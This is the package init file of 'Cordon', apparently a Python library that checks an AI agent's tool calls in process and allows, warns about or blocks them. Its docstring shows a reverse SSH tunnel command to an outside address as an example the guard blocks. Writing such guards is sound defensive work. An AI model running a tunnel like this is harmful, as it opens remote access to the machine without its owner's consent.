"""Cordon for Python: every tool call an agent makes is checked in process
(no data leaves the machine) and allowed, warned about or blocked.

    client = cordon.guard(anthropic.Anthropic())   # tool calls in responses are checked
    @cordon.tool                                    # a plain function's calls are checked
    def bash(command: str) -> str: ...
    cordon.check("bash", {"command": "ssh -R 8080:localhost:22 x@203.0.113.5"}).decision  # "block"
"""

from ._clients import guard
from ._guard import Blocked, Finding, Guard, Verdict, check
from ._tool import tool

__all__ = ["Blocked", "Finding", "Guard", "Verdict", "check", "guard", "tool"]
